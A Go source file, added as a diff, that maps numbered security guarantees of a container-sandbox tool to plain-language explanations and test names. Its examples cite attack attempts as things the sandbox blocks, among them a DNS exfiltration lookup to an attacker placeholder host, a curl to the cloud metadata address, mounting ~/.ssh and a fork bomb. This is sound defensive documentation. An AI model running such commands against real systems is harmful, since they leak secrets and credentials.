@@ -1,0 +1,89 @@
+package promise
+
+import "strings"
+
+// Explanation says what a promise means for who reads about it for the first
+// time.
+type Explanation struct {
+	Meaning string `json:"meaning"` // in plain words
+	Example string `json:"example"` // what somebody does or sees
+	// Tests are packages and the names of tests, as in "e2e: TestB23_*".
+	Tests []string `json:"tests"`
+}
+
+// Explain returns the explanation of a promise; zero for an unknown number.
+func Explain(id string) Explanation {
+	e := explanations[id]
+	if number, ok := strings.CutPrefix(id, "B"); ok && e.Tests == nil && e.Meaning != "" {
+		e.Tests = []string{"e2e: TestB" + strings.Repeat("0", 2-len(number)) + number + "_*"}
+	}
+	return e
+}
+
+// explanations name tests where they aren't the scenarios with the number in their
+// names.
+var explanations = map[string]Explanation{
+	"B1": {"A worker's processes have no Linux capability, and no line of workshop.yaml adds one.",
+		"`mount`, `chown` of another user's file and raw sockets fail in a worker with \"operation not permitted\".", nil},
+	"B2": {"No program in a worker can gain privileges: setuid programs run as the worker's user, and a seccomp filter refuses system calls that have led out of containers.",
+		"`sudo` in a worker prints that it can't become root.", nil},
+	"B3": {"The file system of a worker is read-only, except mounts with mode rw and the memory file systems /tmp, /scratch, /home/worker and /dev/shm, which have a size.",
+		"`touch /usr/x` fails with \"read-only file system\"; `touch /scratch/x` works.", nil},
+	"B4": {"A worker never runs as root. Files that it writes to a mount belong to the uid that it runs as, which is usually yours.",
+		"A report in ./output is yours: no sudo is needed to remove it.", nil},
+	"B5": {"Each worker has limits of memory, CPU and processes. A machine that can't enforce one is refused, unless a person starts with --without-limits.",
+		"A fork bomb in a worker stops at 256 processes; the machine goes on.", nil},
+	"B6": {"A worker shares no namespace with the host, has no devices but harmless ones such as /dev/null, and never sees the socket of an engine.",
+		"`ps` in a worker lists the worker's own processes.", nil},
+	"B7": {"Credentials, system directories, home directories and engines' sockets can't be mounted, by any key of the file. Symbolic links are followed before this is decided.",
+		"`mounts: [\"~/.ssh:/keys\"]` is refused with protected-path.", nil},
+	"B8": {"Files by which your own programs run others later (git hooks, editor tasks, CI workflows) are read-only in a worker, also below a mount with mode rw; `ps` and `down` name such files that changed.",
+		"A worker can't write .git/hooks/pre-commit, which your next commit would run.", nil},
+	"B9": {"A mount with `exclude:` is a copy without the excluded files, so a worker can't find them by another path.",
+		"`exclude: [\".env\"]`: the worker's copy has no .env.", nil},
+	"B10": {"Published ports listen on 127.0.0.1, unless the file names another address and says that more is meant.",
+		"`ports: [\"8080:8080\"]` can be opened in your browser, not from the next machine.", nil},
+	"B11": {"A secret's value is only in the worker that is given it: not in images, generated files, labels, command lines, logs or other workers.",
+		"`secrets: [{name: token, env: GITHUB_TOKEN}]` is the file /run/secrets/token in that worker.", nil},
+	"B12": {"The first process of a worker is workshop's own, not the image's. It waits until the network is enforced before anything else runs.",
+		"An image without a shell works, and its ENTRYPOINT does not run.", nil},
+	"B20": {"A worker's network namespace has loopback and no other interface. There is no way out that a rule would have to close.",
+		"`ip link` in a worker shows `lo` alone.", nil},
+	"B21": {"Whatever starts, crashes, is killed or restarts, in any order: no packet of a worker leaves that isn't allowed.",
+		"While the guard restarts, connections wait or fail; none goes around it.", nil},
+	"B22": {"A worker can't change the rules, routes or sockets of its room, nor listen on the guard's ports.",
+		"`nft flush ruleset` in a worker fails, and would open nothing.", nil},
+	"B23": {"A look-up of a name that isn't allowed is answered in the room: no packet goes to any resolver, so names carry no data out.",
+		"`getent hosts secret-data.attacker.example` in a worker finds nothing, and no name server hears of it.", nil},
+	"B24": {"On ports 80 and 443 the guard reads the name of the server from the connection, looks it up itself, and connects there. The address that the worker chose doesn't matter. This holds in mode restricted.",
+		"An allowed name in the TLS hello, sent to another server's address, reaches the allowed name's server.", nil},
+	"B25": {"Ports other than 80 and 443 need a line that names them, and lead only to addresses of that line's names. This holds in mode restricted.",
+		"`allow: [\"github.com:22\"]` opens ssh to github.com, and to nothing else.", nil},
+	"B26": {"Metadata services, loopback and link-local addresses are never reached. This machine, other containers and private ranges are reached only where a line names them.",
+		"`curl http://169.254.169.254/` in a worker is refused in every mode.", nil},
+	"B27": {"Removing a line ends the connections that it had allowed.",
+		"After `workshop firewall deny api.example.org`, a running download from there ends.", nil},
+	"B28": {"Each refused connection fails at once, is counted, and is an event with the reason and the line that would allow it.",
+		"`workshop firewall log --denied` lists them.", nil},
+	"B29": {"When the guard crashes it is started again, and workers go on.",
+		"`workshop ps` shows the workers up throughout.", nil},
+	"B30": {"Container runtimes that bring a kernel or network stack of their own are refused, because rooms would not control them.",
+		"`runtime: runsc` is refused with runtime-network.",
+		[]string{"compose: TestRuntimes"}},
+	"B31": {"Immediately before each connection the guard checks the address itself against those that are never opened, whatever a name resolved to.",
+		"An allowed name whose address becomes 127.0.0.1 is not dialled.", nil},
+	"B40": {"A worker can have less than its workshop grants, never more. A worker that another delegates to can't do more than that one.",
+		"`resources: {memory: 4G}` in a worker is an error where the workshop has 2G.", nil},
+	"B41": {"A tool that a worker's file doesn't list is not offered to a model, and not executed if it is called anyway.",
+		"`allowed-tools: Read`: a call of `shell` is refused, on the host and in the worker.", nil},
+	"B42": {"A call for which the file asks approval runs only after a person said yes. With nobody to ask, it is refused.",
+		"`approvals: {default: ask}` in continuous integration: the call is refused.", nil},
+	"B43": {"Nothing in a workshop.yaml or a worker's file executes on the host.",
+		"A repository that you only started with `up` ran nothing outside of its workers.", nil},
+	"B44": {"API keys of models, and the calls to them, stay outside of workers.",
+		"`env` in a worker shows no key of yours.", nil},
+	"B45": {"Values of your environment enter a worker only where the file shows it, by `secrets:` or `${NAME}`.",
+		"GITHUB_TOKEN is not in a worker, unless workshop.yaml names it.", nil},
+	"B60": {"No file, message or packet makes our programs crash, hang or use memory without bound, and a worker can't stop the guard or a command of yours.",
+		"A workshop.yaml of nested aliases is refused with too-large.", nil},
+}
